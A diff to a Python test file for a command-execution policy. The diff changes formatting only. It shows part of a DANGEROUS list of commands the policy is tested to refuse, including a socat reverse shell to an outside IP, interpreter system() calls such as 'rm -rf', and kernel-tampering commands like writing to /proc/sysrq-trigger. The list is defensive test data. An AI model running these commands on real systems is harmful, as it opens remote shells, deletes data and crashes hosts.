@@ -83,7 +83,7 @@ DANGEROUS: list[tuple[list[str], str]] = [
     (["socat", "tcp:203.0.113.9:4444", "exec:/bin/bash"], "reverse-shell"),
     (["python3", "-c", "import os; os.system('id')"], "interpreter-system"),
     (["perl", "-e", "system('rm -rf /tmp/x')"], "interpreter-system"),
-    (["awk", "BEGIN { system(\"id\") }"], "interpreter-system"),
+    (["awk", 'BEGIN { system("id") }'], "interpreter-system"),
     (["sh", "-c", "echo c > /proc/sysrq-trigger"], "kernel-tampering"),
     (["rmmod", "e1000"], "kernel-tampering"),
     (["sysctl", "-w", "kernel.panic=1"], "kernel-tampering"),
@@ -173,7 +173,9 @@ def test_shell_metacharacters_are_refused_without_a_shell(
 def test_shell_metacharacters_pass_when_the_operation_allows_a_shell(
     policy: CommandPolicy,
 ) -> None:
-    verdict = policy.evaluate(["sh", "-c", "dmesg | tail -n 5"], environment="dev", allows_shell=True)
+    verdict = policy.evaluate(
+        ["sh", "-c", "dmesg | tail -n 5"], environment="dev", allows_shell=True
+    )
     assert verdict.allowed, verdict
 
 
